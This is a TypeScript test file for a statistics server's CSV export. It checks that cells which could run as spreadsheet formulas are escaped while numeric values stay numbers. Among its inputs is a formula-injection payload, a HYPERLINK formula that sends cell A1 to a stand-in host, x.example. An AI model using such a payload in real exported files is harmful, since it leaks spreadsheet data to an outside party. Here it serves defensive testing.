/**
 * The one CSV writer (sync-server/http/csv.ts), used by /api/indicators (Accept: text/csv) and the
 * report's export.csv: text that a spreadsheet would run as a formula gets a leading "'", numbers
 * (told apart by type, not by text) never do, negative ones included; fields with ";" or quotes
 * are quoted. Parsed back with csv-parse as a spreadsheet would read the file.
 */
import { parse } from 'csv-parse/sync';
import { toCsv } from '../../sync-server/http/csv';
import { LANG_SPALTEN, langCsv, type LangZeile } from '../../sync-server/routes/bericht-export';

const read = (csv: string): string[][] => parse(csv, { delimiter: ';', bom: true, relax_column_count: false }) as string[][];

test('text starting with = + - @ tab or CR is guarded; numbers, negative ones too, are not', () => {
  const csv = toCsv(['a', 'b'], [
    ['=SUMME(A1:A9)', -3.5],
    ['+49 2302', { zahl: -3.46, stellen: 1 }],
    ['-Nord', { zahl: -0.04, stellen: 1 }],
    ['@cmd', 1234.5],
    ['\tTab', null],
    ['\rCR', '-3,5'],
    ['Witten; Mitte "alt"', '.'],
  ]);
  expect(csv.startsWith('\uFEFF')).toBe(true);
  expect(csv.endsWith('\r\n')).toBe(true);
  expect(read(csv)).toEqual([
    ['a', 'b'],
    ["'=SUMME(A1:A9)", '-3,5'],
    ["'+49 2302", '-3,5'],
    ["'-Nord", '0,0'],
    ["'@cmd", '1234,5'],
    ["'\tTab", ''],
    ["'\rCR", "'-3,5"],
    ['Witten; Mitte "alt"', '.'],
  ]);
});

const zeile = (over: Partial<LangZeile>): LangZeile => ({
  gebiet: 'Annen',
  code: '05954036-01',
  ebene: 'Gemeindeteil',
  jahr: 2024,
  name: 'Arbeitslosendichte',
  wert: 4.25,
  zaehler: 17,
  nenner: 400,
  einheit: '%',
  art: 'Kennzahl',
  kennung: 'arbeitslosendichte',
  hinweis: '',
  stellen: 1,
  ...over,
});

test('the report export cannot carry a formula: names of areas and Kennzahlen from uploads are guarded, values stay numbers', () => {
  const csv = langCsv([
    zeile({ gebiet: '=HYPERLINK("http://x.example/?"&A1;"Klick")', name: '+Wanderungssaldo' }),
    zeile({ gebiet: '@Annen', name: '-Saldo', wert: -3.46, zaehler: -17 }),
    zeile({ wert: '.', zaehler: '.', nenner: '.', hinweis: 'gesperrt' }),
  ]);
  const [header, ...rows] = read(csv);
  expect(header).toEqual([...LANG_SPALTEN]);
  expect(rows.map((r) => [r[0], r[4], r[5], r[6], r[7]])).toEqual([
    ['\'=HYPERLINK("http://x.example/?"&A1;"Klick")', "'+Wanderungssaldo", '4,3', '17', '400'],
    ["'@Annen", "'-Saldo", '-3,5', '-17', '400'],
    ['Annen', 'Arbeitslosendichte', '.', '.', '.'],
  ]);
  // no cell of the file starts with a formula sign unless it is a number
  for (const r of rows) for (const c of r) expect(/^[=+@\t\r]/.test(c) || (/^-/.test(c) && Number.isNaN(Number(c.replace(',', '.'))))).toBe(false);
});
